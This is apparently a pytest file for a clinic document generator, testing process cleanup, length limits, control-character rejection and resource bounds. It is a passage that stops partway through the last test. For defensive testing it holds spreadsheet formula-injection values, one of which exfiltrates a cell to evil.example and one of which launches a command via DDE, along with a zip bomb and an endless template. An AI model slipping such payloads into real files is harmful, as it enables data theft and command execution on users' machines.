"""Reliability under load and faults: a large batch gets every PDF, a stuck or killed
LibreOffice is stopped with everything it started, and no field is long enough to make a
document run away."""

from __future__ import annotations

import concurrent.futures
import contextlib
import csv
import html
import http.cookiejar
import io
import os
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import HOSTILE_NAME, descendants, docx_text, pdf_text, processes
from pypdf import PdfReader
from test_batch import sample_rows, write_csv

from docgen import pdf
from docgen.batch import _only_batch_in, run_batch
from docgen.cli import main
from docgen.exceptions import PdfError, PlanError
from docgen.filing import read_scan
from docgen.generate import create_consent
from docgen.manifest import read_manifest
from docgen.patient import LONGEST_TEXT
from docgen.pdf import FILES_PER_RUN, WarmLibreOffice, convert_to_pdf, find_soffice, find_uno_python
from docgen.register import Register, find_records
from docgen.verify import verify_content
from docgen.visit import Visit
from docgen.web import create_app
from docgen.web.batch import UPLOAD_PREFIX
from docgen.web.patient import MAKING_PREFIX
from docgen.workspace import Workspace


def group_members(group: int) -> list[int]:
    """The processes still alive in a process group (zombies are dead already)."""
    members = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        state, _ppid, pgrp = stat.rsplit(")", 1)[1].split()[:3]
        if int(pgrp) == group and state != "Z":
            members.append(int(entry.name))
    return members


def test_a_batch_larger_than_one_libreoffice_run_gets_every_pdf(tmp_path, monkeypatch):
    """LibreOffice 7.4 converts only the first 246 files named on one command line; a batch
    of 130 rows (260 documents) on one job once ended with 246 PDFs and exit 1. docgen gives
    one of its runs fewer files than LibreOffice takes; a batch of more documents than one run
    is given (here made 20, so that a short batch needs three) gets every PDF."""
    assert FILES_PER_RUN < 246
    monkeypatch.setattr(pdf, "FILES_PER_RUN", 20)
    runs = []
    real_run = pdf._run_cold
    monkeypatch.setattr(pdf, "_run_cold", lambda *args: runs.append(args[1]) or real_run(*args))
    header, rows = sample_rows()
    documents = header.index("Documents")
    reference = header.index("Ref")
    day = [
        [*row[:reference], f"D-{index:04d}", *row[reference + 1 : documents], "estimate"]
        for index, row in enumerate(rows[i % len(rows)] for i in range(45))
    ]
    appointments = write_csv(tmp_path / "day.csv", header, day)
    result = CliRunner().invoke(
        main, ["batch", str(appointments), "-o", str(tmp_path / "out"), "--pdf", "--jobs", "1"]
    )
    assert result.exit_code == 0, result.output[-2000:]
    made = read_manifest(tmp_path / "out")
    assert len(made) == 45
    pdfs = sorted((tmp_path / "out").rglob("*.pdf"))
    assert len(pdfs) == 45
    assert [len(files) for [(files, _profile)] in runs] == [20, 20, 5]  # three LibreOffice runs
    last = (tmp_path / "out" / made[-1].path).with_suffix(".pdf")
    assert day[-1][0] in pdf_text(last)
    assert not list((tmp_path / "out").rglob(".docgen-*"))


def test_a_pdf_libreoffice_is_still_writing_is_not_stamped_until_whole(workspace, tmp_path):
    """LibreOffice creates a PDF and then copies into it what it wrote elsewhere, holding a
    lock file meanwhile: a batch read one half copied to stamp its codes, and ended with
    'EOF marker not found'. A PDF is stamped once it is whole and LibreOffice has let go (or
    has ended, a lock file left behind); one never written whole is never put in place."""
    form = create_consent(
        workspace, Visit.for_treatment("Ann Lee", "REJUV", ["FACE"]), output=tmp_path / "f.docx"
    )
    subprocess.run(
        [find_soffice(), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
         "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(form.docx)],
        check=True, capture_output=True,
    )  # fmt: skip
    whole = form.docx.with_suffix(".pdf").read_bytes()
    out = tmp_path / "out"
    out.mkdir()
    made, lock = out / "000000.pdf", out / ".~lock.000000.pdf#"
    codes = pdf._Codes({made: form.document_id})
    lock.write_text("LibreOffice")
    made.write_bytes(whole[: len(whole) // 2])
    codes.stamp_made()  # half copied
    made.write_bytes(whole)
    codes.stamp_made()  # whole, but LibreOffice still holds it
    assert codes.stamped == {} and made.read_bytes() == whole
    half = out / "000001.pdf"  # a LibreOffice that ended, leaving one PDF half written
    half.write_bytes(whole[: len(whole) // 2])
    target = tmp_path / "half.docx"
    target.write_bytes(b"")
    with pytest.raises(PdfError, match=r"could not convert .*half\.docx"):
        pdf._place([tmp_path / "000001.docx"], [target], out, False, None, {})
    assert not target.with_suffix(".pdf").exists()
    codes.stamp_made(finished=True)  # it has ended: the lock it left says nothing now
    pages = len(PdfReader(io.BytesIO(whole)).pages)
    assert codes.stamped == {made: (form.document_id, pages)}
    assert [(p.document_id, p.page) for p in read_scan(made)] == [
        (form.document_id, n) for n in range(1, pages + 1)
    ]


def write_documents(folder: Path, counts: dict[str, int]) -> dict[Path, str]:
    """Files of about a consent form's size, in the given languages, a little larger each."""
    languages = {}
    for language, count in counts.items():
        for index in range(count):
            document = folder / f"{language}-{index}.docx"
            document.write_bytes(b"x" * (23_000 + 100 * index))
            languages[document] = language
    return languages


def lane_loads(lanes, languages, patterns) -> list[int]:
    return [
        sum(document.stat().st_size for document in lane)
        + sum(pdf._reading(patterns, language) for language in {languages[d] for d in lane})
        for lane in lanes
    ]


PATTERNS = {"de": 1_100_000, "en": 110_000, "fr": 24_000}


def test_each_language_but_the_most_common_is_made_into_pdf_by_one_libreoffice(tmp_path):
    """A LibreOffice reads the hyphenation patterns of each language it meets, once (German's
    1.1 MB take it as long as ten English forms): a batch's documents are shared between
    its LibreOffice processes with each language but the most common in one of them, and the
    processes given as much to do, German's patterns counted in."""
    languages = write_documents(tmp_path, {"en": 31, "de": 12, "fr": 9, "ar": 5, "": 2})
    for patterns in ({}, PATTERNS):
        lanes = pdf._lanes(list(languages), languages, 2, patterns)
        assert sorted(document for lane in lanes for document in lane) == sorted(languages)
        for language in ("de", "fr", "ar", ""):
            assert [any(languages[d] == language for d in lane) for lane in lanes].count(True) == 1
        loads = lane_loads(lanes, languages, patterns)
        assert abs(loads[0] - loads[1]) <= 26_100  # at most one document's worth apart
    german = next(lane for lane in lanes if any(languages[d] == "de" for d in lane))
    assert len(german) < len(languages) / 2 - 3  # German's patterns count for about ten forms


def test_a_language_too_large_for_one_libreoffice_is_shared_by_as_few_as_can_hold_it(tmp_path):
    """A Swiss clinic's batch, half German and half English, on four LibreOffice processes:
    German in three of them (it fills more than two), English filling the gaps, and the four
    given as much to do."""
    languages = write_documents(tmp_path, {"de": 50, "en": 50})
    lanes = pdf._lanes(list(languages), languages, 4, PATTERNS)
    assert sorted(document for lane in lanes for document in lane) == sorted(languages)
    assert [any(languages[d] == "de" for d in lane) for lane in lanes].count(True) == 3
    loads = lane_loads(lanes, languages, PATTERNS)
    assert max(loads) - min(loads) <= 2 * 28_000
    assert pdf._lanes([], {}, 4, PATTERNS) == [[]]


def test_libreoffices_hyphenation_patterns_are_found_by_language():
    """Where LibreOffice finds its hyphenation patterns (Debian's hyphen-* packages here)."""
    found = pdf.hyphenation_patterns(find_soffice())
    assert found["de"] > 500_000 > found["fr"] > 0 and found["en"] > 0


@pytest.fixture
def stuck_soffice(tmp_path, monkeypatch) -> Path:
    """A LibreOffice that never finishes: its launcher starts a child (as soffice starts
    soffice.bin) and both wait for ever. The child writes its process id to a file."""
    script = tmp_path / "soffice"
    pid_file = tmp_path / "child.pid"
    script.write_text(f"#!/bin/sh\nsh -c 'echo $$ > {pid_file}; exec sleep 600' &\nsleep 600\n")
    script.chmod(0o755)
    monkeypatch.setenv("DOCGEN_SOFFICE", str(script))
    return pid_file


def test_a_stuck_libreoffice_is_stopped_with_what_it_started(workspace, tmp_path, stuck_soffice):
    form = create_consent(
        workspace, Visit.for_treatment("Ann Lee", "REJUV", ["FACE"]), output=tmp_path / "form.docx"
    )
    started = time.monotonic()
    with pytest.raises(PdfError, match=r"within 3 s; it was stopped"):
        convert_to_pdf([form.docx], timeout=3)
    assert time.monotonic() - started < 20
    child = int(stuck_soffice.read_text())
    time.sleep(0.2)
    assert not Path(f"/proc/{child}").exists() or "Z" in Path(f"/proc/{child}/stat").read_text()
    assert form.docx.is_file() and not form.docx.with_suffix(".pdf").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".docgen")] == []


@pytest.fixture
def warm(workspace, tmp_path):
    soffice = find_soffice()
    python = find_uno_python(soffice)
    assert python, "LibreOffice's Python bridge (python3-uno) is needed"
    office = WarmLibreOffice(soffice, python, timeout=8)
    yield office
    office.close()


def test_a_stuck_warm_libreoffice_is_killed_and_the_next_document_converts(
    workspace, tmp_path, warm
):
    forms = [
        create_consent(
            workspace,
            Visit.for_treatment(name, "REJUV", ["FACE"]),
            output=tmp_path / f"{name}.docx",
        ).docx
        for name in ("Ann Lee", HOSTILE_NAME)
    ]
    warm.convert(forms[0], tmp_path / "first.pdf")
    group = warm._process.pid
    office = [pid for pid in group_members(group) if pid != group]
    assert office, "LibreOffice runs in the worker's process group"
    for pid in office:
        os.kill(pid, signal.SIGSTOP)  # LibreOffice hangs, at full CPU or not at all
    with pytest.raises(PdfError, match="did not answer within 8 s"):
        warm.convert(forms[1], tmp_path / "stuck.pdf")
    time.sleep(0.5)
    assert group_members(group) == []  # soffice.bin too: it held the profile before
    warm.convert(forms[1], tmp_path / "second.pdf")  # a new LibreOffice, a new profile
    assert HOSTILE_NAME in pdf_text(tmp_path / "second.pdf")


def test_closing_warm_libreoffice_leaves_no_process(workspace, tmp_path, warm):
    form = create_consent(
        workspace, Visit.for_treatment("Ann Lee", "REJUV", ["FACE"]), output=tmp_path / "a.docx"
    )
    warm.convert(form.docx, tmp_path / "a.pdf")
    group = warm._process.pid
    assert len(group_members(group)) >= 2
    warm.close()
    assert group_members(group) == []


@pytest.mark.parametrize(
    ("option", "field"),
    [("--ref", "ref"), ("--practitioner", "practitioner"), ("--interpreter", "interpreter"),
     ("--patient", "patient")],
)  # fmt: skip
def test_every_text_of_a_consent_form_has_a_length_limit(run, tmp_path, option, field):
    args = {"--patient": "Ann Lee", "--ref": "LUM-1", "--practitioner": "Dr Whitfield",
            "--interpreter": ""}  # fmt: skip
    longest = LONGEST_TEXT[field]
    args[option] = "x" * longest
    command = ["consent", "--treatment", "REJUV", "--area", "FACE", "-o", "ok.docx"]
    fits = run(*command, *(part for pair in args.items() for part in pair))
    assert fits.exit_code == 0, fits.output
    assert "x" * longest in docx_text(tmp_path / "ok.docx")
    args[option] = "x" * 100_000
    started = time.monotonic()
    command[-1] = "long.docx"
    result = run(*command, *(part for pair in args.items() for part in pair))
    assert time.monotonic() - started < 10
    assert result.exit_code == 1
    assert f"is 100000 characters long; at most {longest}" in result.output
    assert "x" * 1000 not in result.output  # the value itself is not echoed back
    assert not (tmp_path / "long.docx").exists()


def test_a_batch_row_with_an_overlong_reference_is_named_and_the_rest_made(tmp_path):
    header, rows = sample_rows()
    reference = header.index("Ref")
    rows = [list(row) for row in rows[:3]]
    rows[1][reference] = "R" * 5000
    appointments = write_csv(tmp_path / "day.csv", header, rows)
    result = CliRunner().invoke(main, ["batch", str(appointments), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "row 3" in result.output
    assert "the patient reference is 5000 characters long; at most 64" in result.output
    assert {m.row for m in read_manifest(tmp_path / "out")} == {2, 4}


def test_library_refuses_an_overlong_practitioner_before_writing(workspace, tmp_path):
    with pytest.raises(PlanError, match="the practitioner's name is 201 characters long"):
        create_consent(
            workspace,
            Visit.for_treatment("Ann Lee", "REJUV", ["FACE"], practitioner="P" * 201),
            output=tmp_path / "a.docx",
        )
    assert list(tmp_path.iterdir()) == [workspace.root]


def start_desk(workspace, output: Path) -> subprocess.Popen:
    """`docgen serve` in a process of its own, once it says it is ready."""
    server = subprocess.Popen(
        [sys.executable, "-m", "docgen", "--workspace", str(workspace.root), "serve",
         "--port", "0", "-o", str(output)],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    for line in server.stdout:
        if line.startswith("docgen desk: "):
            server.url = line.removeprefix("docgen desk: ").strip().rstrip("/")
        if line.startswith("Press Ctrl-C"):
            break
    return server


def test_ctrl_c_of_the_desk_stops_its_libreoffice(workspace, tmp_path):
    server = start_desk(workspace, tmp_path)
    try:
        started = descendants(server.pid)
        assert "soffice.bin" in started.values(), "the desk keeps a LibreOffice running"
    finally:
        server.send_signal(signal.SIGINT)
        assert server.wait(timeout=60) == 0
    assert "LibreOffice stopped with it" in server.stdout.read()
    assert set(started) & set(processes()) == set()


@pytest.fixture
def desk(workspace, tmp_path):
    output = tmp_path / "documents"
    output.mkdir()
    client = create_app(workspace, output).test_client()
    page = client.get("/").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    form = {
        "csrf_token": token, "patient": "Ann Lee", "dob": "1985-06-15", "ref": "LUM-1",
        "locale": "en_GB", "treatment": "REJUV", "area": ["FACE"], "sessions": "",
        "practitioner": "Dr Sarah Whitfield", "interpreter": "", "action": "estimate",
    }  # fmt: skip
    return client, form, output


@pytest.mark.parametrize("field", ["ref", "patient", "locale", "treatment", "practitioner"])
def test_a_desk_field_pasted_full_is_refused_at_once_and_the_desk_serves_on(desk, field):
    client, form, output = desk
    started = time.monotonic()
    response = client.post("/", data={**form, field: "9" * 400_000}, follow_redirects=True)
    assert time.monotonic() - started < 5
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert f'id="{field}-error"><p>This is far too long (400000 characters).' in page
    assert "9" * 1000 not in page  # not shown again
    assert list(output.iterdir()) == []
    response = client.post("/", data=form, follow_redirects=True)
    assert response.status_code == 200, response.get_data(as_text=True)[-2000:]
    assert sorted(p.suffix for p in output.iterdir()) == [".docx", ".pdf"]


def test_a_desk_reference_longer_than_a_reference_is_named_next_to_it(desk):
    client, form, output = desk
    response = client.post(
        "/", data={**form, "action": "consent", "ref": "R" * 65}, follow_redirects=True
    )
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert 'id="ref-error"><p>The patient reference is 65 characters long; at most 64' in page
    assert list(output.iterdir()) == []


HOSTILE_REFERENCES = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1",
    "-2+3", "'quoted",
]  # fmt: skip


def test_manifest_cells_are_text_a_spreadsheet_never_runs(tmp_path):
    header = ["Patient", "Ref", "Treatment", "Areas", "Documents"]
    rows = [[f"Patient {i}", ref, "REJUV", "FACE", "estimate"]
            for i, ref in enumerate(HOSTILE_REFERENCES)]  # fmt: skip
    appointments = write_csv(tmp_path / "day.csv", header, rows)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["batch", str(appointments), "-o", str(out)])
    assert result.exit_code == 0, result.output
    with (out / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        cells = [record["patient_ref"] for record in csv.DictReader(handle)]
    assert cells == ["'" + ref for ref in HOSTILE_REFERENCES]  # OWASP: a leading quote
    assert [d.patient_ref for d in read_manifest(out)] == HOSTILE_REFERENCES
    again = CliRunner().invoke(main, ["batch", str(appointments), "-o", str(out)])
    assert again.exit_code == 0 and "0 document(s) made" in again.output


def test_folders_made_for_patient_documents_are_private(run, tmp_path):
    """0755 folders let other users of the computer list patients' names and birth dates."""
    header = ["Patient", "DOB", "Treatment", "Areas", "Documents"]
    appointments = write_csv(
        tmp_path / "day.csv", header, [["Ann Lee", "1980-01-02", "REJUV", "FACE", "estimate"]]
    )
    assert run("batch", appointments, "-o", "a/b/c").exit_code == 0
    assert run("estimate", "--patient", "Bo", "--item", "REJUV:FACE", "-o", "x/y/").exit_code == 0
    folders = [tmp_path / f for f in ("a", "a/b", "a/b/c", "x", "x/y")]
    folders += [p for p in (tmp_path / "a/b/c").iterdir() if p.is_dir()]  # the patient's own
    assert len(folders) == 6
    for folder in folders:
        assert folder.stat().st_mode & 0o777 == 0o700, folder


@pytest.mark.parametrize(
    ("name", "code"),
    [("Ann \u202eeeL", "U+202E"), ("Ann\x7f Lee", "U+007F"), ("Ann\x85Lee", "U+0085"),
     ("\u2067Ann Lee", "U+2067"),
     # a line break split the name on the form; an escape rewrote `docgen records` listing
     ("Ann\nLee", "U+000A"), ("Ann\x1b[2KLee", "U+001B"), ("Ann\rQ-FAKE", "U+000D"),
     # invisible, yet another name than the one typed; a mark with no right-to-left letter
     ("Ann\u200bLee", "U+200B"), ("Ann\u2028Lee", "U+2028"), ("\ufeffAnn Lee", "U+FEFF"),
     ("Ann \u200fLee", "U+200F")],
)  # fmt: skip
def test_a_name_that_would_read_differently_on_paper_is_refused(workspace, tmp_path, name, code):
    with pytest.raises(PlanError) as refused:
        create_consent(
            workspace, Visit.for_treatment(name, "REJUV", ["FACE"]), output=tmp_path / "a.docx"
        )
    assert str(refused.value) == (
        f"the patient's name holds an invisible control character ({code})"
    )
    with pytest.raises(PlanError, match=rf"the interpreter's name holds .*\({re.escape(code)}\)"):
        create_consent(
            workspace,
            Visit.for_treatment("Ann Lee", "REJUV", ["FACE"], interpreter=name),
            output=tmp_path / "b.docx",
        )
    assert not list(tmp_path.glob("*.docx"))


def test_a_direction_mark_cannot_reorder_a_reference(workspace, tmp_path, run):
    """'\u061c12-34 \u200f56-78/90' printed as '56-78/90 34-12' on an English form."""
    result = run(
        "--workspace", workspace.root, "consent", "--patient", "Ann Lee", "--treatment",
        "REJUV", "--area", "FACE", "--ref", "\u061c12-34 \u200f56-78/90", "-o", "c.docx",
    )  # fmt: skip
    assert result.exit_code == 1
    assert "the patient reference holds an invisible control character (U+061C)" in result.output
    assert not list(tmp_path.glob("*.docx"))


def test_right_to_left_names_keep_their_marks(workspace, tmp_path):
    name = "\u200fليلى حداد"  # a right-to-left mark is not a control character that reorders
    form = create_consent(
        workspace, Visit.for_treatment(name, "REJUV", ["FACE"]), locale="ar", output=tmp_path / "a"
    )
    assert name in docx_text(form.docx)


def damaged(template: Path, member: str, change) -> None:
    """Rewrite one member of a .docx package, as a failed copy or a crashed save leaves it."""
    with zipfile.ZipFile(template) as package:
        members = [(item, package.read(item)) for item in package.infolist()]
    with zipfile.ZipFile(template, "w") as package:
        for item, data in members:
            package.writestr(item, change(data) if item.filename == member else data)


@pytest.mark.parametrize(
    ("member", "change", "reason"),
    [("word/document.xml", lambda data: data[: len(data) // 2], "XMLSyntaxError"),
     ("[Content_Types].xml", lambda data: b"<Types xmlns='x'><no/></Types>", "AttributeError")],
)  # fmt: skip
def test_a_damaged_template_is_named_everywhere_without_a_traceback(
    workspace, tmp_path, member, change, reason
):
    damaged(workspace.template("consent.docx"), member, change)
    expected = "template consent.docx: is damaged: a part of it cannot be read"
    runner = CliRunner()
    for command in (
        ["check"],
        ["consent", "--patient", "Ann Lee", "--treatment", "REJUV", "--area", "FACE", "-o",
         str(tmp_path / "c.docx")],
        ["batch", str(write_csv(tmp_path / "d.csv", ["Patient", "Treatment", "Areas"],
                                [["Ann Lee", "REJUV", "FACE"]])), "-o", str(tmp_path / "out")],
    ):  # fmt: skip
        result = runner.invoke(main, ["--workspace", str(workspace.root), *command])
        assert result.exit_code == 1, (command, result.output)
        assert expected in result.output and reason in result.output, result.output
        assert "Traceback" not in result.output
    assert not (tmp_path / "c.docx").exists()
    health = create_app(workspace, tmp_path).test_client().get("/health")
    as_a_sentence = expected[0].upper() + expected[1:]  # as the desk shows every message
    assert health.status_code == 200 and as_a_sentence in health.get_data(as_text=True)


def gone(pids, seconds: float = 15) -> bool:
    """Whether all these processes end within seconds."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not set(pids) & set(processes()):
            return True
        time.sleep(0.2)
    return False


def day_of(tmp_path, rows: int, documents: str) -> Path:
    header, sample = sample_rows()
    position = {name: header.index(name) for name in ("Ref", "Documents")}
    day = []
    for index in range(rows):
        row = list(sample[index % len(sample)])
        row[position["Ref"]], row[position["Documents"]] = f"K-{index:05d}", documents
        day.append(row)
    return write_csv(tmp_path / "day.csv", header, day)


def test_a_batch_killed_in_its_pdf_step_leaves_nothing_in_a_patients_folder(tmp_path, monkeypatch):
    appointments = day_of(tmp_path, 8, "consent")
    out = tmp_path / "out"
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setenv("TMPDIR", str(temporary))
    command = [sys.executable, "-m", "docgen", "batch", str(appointments), "-o", str(out),
               "--pdf", "--jobs", "1"]  # fmt: skip
    batch = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while not list(out.glob(".docgen-pdf-*")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(out.glob(".docgen-pdf-*")), "the PDF step works in the output folder"
    batch.kill()  # kill -9
    batch.wait()
    patients = [folder for folder in out.iterdir() if folder.is_dir() and folder.name[0] != "."]
    assert patients and not [p for f in patients for p in f.glob(".docgen*")]
    again = subprocess.run(command, capture_output=True, text=True, timeout=600)
    assert again.returncode == 0, again.stdout[-2000:] + again.stderr[-2000:]
    assert len(list(out.rglob("*.pdf"))) == 16  # 8 consent forms and their records
    assert len(list(out.rglob("record.pdf"))) == 8
    assert not list(out.rglob(".docgen*"))  # the killed run's staging folder is gone too
    assert not list(temporary.iterdir())  # and its LibreOffice profile (issue 23 item 13)


def test_a_batch_killed_making_pdfs_takes_libreoffice_with_it_and_the_next_desk_clears_up(
    workspace, tmp_path, monkeypatch
):
    """Issue 23 item 13: a batch killed while LibreOffice made its PDFs left LibreOffice
    running, and its staging folder (links to every document, patients' PDFs), its manifest
    half written and LibreOffice's profiles; a desk never runs that batch again, so its next
    start removes them. What a batch still running has is left alone."""
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setenv("TMPDIR", str(temporary))  # the batch's, and this process's
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    desk = tmp_path / "desk"
    out = desk / "batch-20260101-093000-ab12"  # a desk's batch
    appointments = day_of(tmp_path, 40, "consent")
    command = [sys.executable, "-m", "docgen", "--workspace", str(workspace.root), "batch",
               str(appointments), "-o", str(out), "--pdf", "--jobs", "1"]  # fmt: skip
    batch = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    office: dict[int, str] = {}
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and batch.poll() is None:
        office = {
            pid: name
            for pid, name in descendants(batch.pid).items()
            if name in ("oosplash", "soffice.bin")
        }
        if "soffice.bin" in office.values() and list(out.glob(".docgen-pdf-*/out/*.pdf")):
            break
        time.sleep(0.05)
    assert "soffice.bin" in office.values() and list(out.glob(".docgen-pdf-*/out/*.pdf"))
    batch.kill()  # kill -9, while LibreOffice writes patients' PDFs
    batch.wait()
    # at once: it went on converting patients' documents for seconds
    assert gone(office, seconds=3), "LibreOffice outlived its killed batch"
    left = [out / ".docgen-batch.lock", out / ".manifest.csv.partial",
            *out.glob(".docgen-pdf-*"), *temporary.glob("docgen-lo-*")]  # fmt: skip
    assert all(path.exists() for path in left) and len(left) == 4
    # a batch still running: its profile, and its staging folder in a folder it holds locked
    running = desk / "batch-20260101-094500-cd34"
    ours = [Path(tempfile.mkdtemp(prefix=f"docgen-lo-{os.getpid()}-")),
            Path(tempfile.mkdtemp(prefix=f".docgen-pdf-{os.getpid()}-", dir=desk))]  # fmt: skip
    with _only_batch_in(running):
        ours.append(running / ".manifest.csv.partial")
        ours[-1].write_text("row\n")
        create_app(workspace, desk)
        assert all(path.exists() for path in ours)
    assert not [path for path in left if path.exists()]
    # nothing of a patient outside that patient's folder
    assert [path for path in out.iterdir() if path.name.startswith(".")] == []
    assert not list(out.rglob(".docgen*")) and len(list(out.rglob("consent.docx"))) == 40


def test_the_workers_of_a_killed_batch_end_with_it(tmp_path):
    appointments = day_of(tmp_path, 4000, "consent, estimate")
    command = [sys.executable, "-m", "docgen", "batch", str(appointments), "-o",
               str(tmp_path / "out"), "--jobs", "2"]  # fmt: skip
    batch = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    workers: dict[int, str] = {}
    while len(workers) < 2 and time.monotonic() < deadline:
        workers = descendants(batch.pid)
        time.sleep(0.05)
    assert len(workers) >= 2, workers
    batch.kill()
    batch.wait()
    assert gone(workers), "a worker outlived its killed batch"


def test_a_killed_desk_takes_its_libreoffice_with_it(workspace, tmp_path):
    server = start_desk(workspace, tmp_path)
    started = descendants(server.pid)
    assert "soffice.bin" in started.values()
    server.kill()  # kill -9: no chance to stop LibreOffice itself
    server.wait()
    assert gone(started), "LibreOffice outlived its killed desk"


def test_the_next_desk_removes_what_a_killed_desk_left(workspace, tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()  # its process id is free: no process runs under it
    orphan = Path(tempfile.mkdtemp(prefix=f"{UPLOAD_PREFIX}{dead.pid}-"))
    (orphan / "appointments.csv").write_text("Patient\nAnn Lee\n")
    ours = Path(tempfile.mkdtemp(prefix=f"{UPLOAD_PREFIX}{os.getpid()}-"))
    # and a visit's documents half made, in the desk's folder
    half_made = Path(tempfile.mkdtemp(prefix=f"{MAKING_PREFIX}{dead.pid}-", dir=tmp_path))
    (half_made / "consent-Ann-Lee.docx").write_bytes(b"PK")
    making = Path(tempfile.mkdtemp(prefix=f"{MAKING_PREFIX}{os.getpid()}-", dir=tmp_path))
    try:
        create_app(workspace, tmp_path)
        assert not orphan.exists() and not half_made.exists()
        assert ours.exists() and making.exists()  # a running server's work stays
    finally:
        shutil.rmtree(orphan, ignore_errors=True)
        shutil.rmtree(ours, ignore_errors=True)


def test_verify_reads_no_more_than_a_document_holds(tmp_path):
    """Members each under the old per-member cap, together far over it: verify once held
    every one of them in memory (2.96 GB for 60 members of 49 MB)."""
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        for index in range(3):
            package.writestr(f"word/part{index}.xml", b"\0" * 30_000_000)
    assert bomb.stat().st_size < 1_000_000
    started = time.monotonic()
    result = CliRunner().invoke(main, ["verify", str(bomb)])
    assert time.monotonic() - started < 5
    assert result.exit_code == 1
    assert "unpacks to 90 MB, far more than a docgen document holds" in result.output


def run_on_a_small_disk(command: list[str]) -> subprocess.CompletedProcess:
    def small_disk() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG)
        resource.setrlimit(resource.RLIMIT_FSIZE, (120_000, 120_000))

    return subprocess.run(
        command, capture_output=True, text=True, preexec_fn=small_disk, timeout=300
    )


def test_a_full_disk_is_a_clear_error_that_loses_nothing(tmp_path):
    """The operating system refuses to let files grow past 120 kB (RLIMIT_FSIZE, as a full disk
    does): each form fits, the register's rows soon do not (nor would the manifest). No
    document can be issued without its row, so the batch stops at the first, saying why; every
    document on disk is whole and has its row; the next run makes the rest."""
    header = ["Patient", "Ref", "Treatment", "Areas", "Documents"]
    rows = [[f"Patient {n}", f"R-{n:04d}", "REJUV", "FACE", "consent"] for n in range(400)]
    appointments = tmp_path / "day.csv"
    with appointments.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([header, *rows])
    out = tmp_path / "out"
    Register.of(Workspace.open()).connection()  # there before the disk filled
    full = run_on_a_small_disk(
        [sys.executable, "-m", "docgen", "batch", str(appointments), "-o", str(out), "--jobs", "2"]
    )
    assert full.returncode == 1 and "Traceback" not in full.stderr, full.stderr[-2000:]
    assert re.search(r"Error: cannot (open|write to) the register .*register\.sqlite", full.stderr)
    assert "row 3" not in full.stderr  # one error, not one per row
    assert not list(out.glob(".*partial")) and not list(out.glob("*/.docgen-*"))
    made = {path.resolve() for path in out.glob("*/*.docx")}  # forms and treatment records
    registered = {Path(record.path) for record in find_records(Workspace.open())}
    assert made and made == registered and all(verify_content(p).unchanged for p in made)
    again = run_batch(Workspace.open(), appointments, out, jobs=2)
    assert again.ok and again.made + again.skipped == 800  # 400 forms and their records
    assert len(read_manifest(out)) == len(find_records(Workspace.open())) == 800
    assert len(list(out.glob("*/record.docx"))) == 400


def desk_with_an_endless_template(workspace, tmp_path, monkeypatch, template: str):
    """A desk whose template loops for ever (the sandbox stops it after 20 s) and whose
    bounded workers may use 2 s of processor time a document: its client and its folder."""
    from test_documents import replace_in_template

    endless = "{% set s = 'x' * 999999 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}"
    replace_in_template(workspace.template(f"{template}.docx"), "{{ patient.name }}", endless)
    monkeypatch.setattr("docgen.web.common.DOCUMENTS_CPU_SECONDS", 2)
    output = tmp_path / "documents"
    output.mkdir()
    return create_app(workspace, output).test_client(), output


def test_a_hostile_template_on_the_desk_is_stopped_by_the_system_and_the_desk_goes_on(
    workspace, tmp_path, monkeypatch
):
    """24 nested squarings froze the whole desk, deaf to Ctrl-C. Its documents are now made in
    a worker the operating system bounds: no template escapes that, however it runs."""
    from test_web import patient_form

    client, output = desk_with_an_endless_template(workspace, tmp_path, monkeypatch, "consent")
    started = time.monotonic()
    response = client.post("/", data=patient_form(client), follow_redirects=True)
    assert time.monotonic() - started < 10  # the template's own time limit is 20 s
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "went over its limits (2 s of processor time" in page
    assert client.get("/").status_code == 200
    assert list(output.iterdir()) == []
    # multiprocessing's fork server and its resource tracker stay, idle; no worker is left
    left = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in descendants(os.getpid())]
    assert all(b"forkserver" in c or b"resource_tracker" in c for c in left), left


def test_parallel_patients_on_the_desk_each_get_their_own_documents(workspace, tmp_path):
    """A load test, on loopback: 8 admins making a patient's form and estimate, PDFs included,
    at once. Every request is answered, in bounded time, each with its own patient's documents."""
    server = start_desk(workspace, tmp_path / "documents")
    try:
        opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
        )
